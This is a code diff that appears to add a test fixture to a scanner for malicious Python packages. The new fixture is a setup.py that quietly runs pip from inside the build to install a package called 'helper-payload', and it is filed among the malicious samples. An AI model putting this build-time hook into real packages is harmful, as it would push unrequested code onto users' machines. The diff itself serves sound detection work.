@@ -164,6 +164,16 @@ class PostInstall(install):
 setup(name="pkg", version="1.0", cmdclass={"install": PostInstall})
 """
 
+SETUP_PIP_IN_PROCESS = """\
+import sys
+from distutils.core import setup
+
+if sys.argv[1] in ["egg_info", "build"]:
+    from pip._internal import main
+    main(["install", "helper-payload"])
+setup(name="pkg", version="1.0")
+"""
+
 SETUP_DNS_BEACON = """\
 import subprocess
 from setuptools import setup
@@ -511,6 +521,7 @@ FIXTURES: dict[str, RuleFixtures] = {
             setup_py(SETUP_PIP_SECOND_STAGE),
             setup_py(SETUP_DNS_BEACON),
             setup_py(SETUP_START_PROGRAM),
+            setup_py(SETUP_PIP_IN_PROCESS),
         ],
         benign=[
             setup_py(SETUP_NUMPY_INCLUDE),
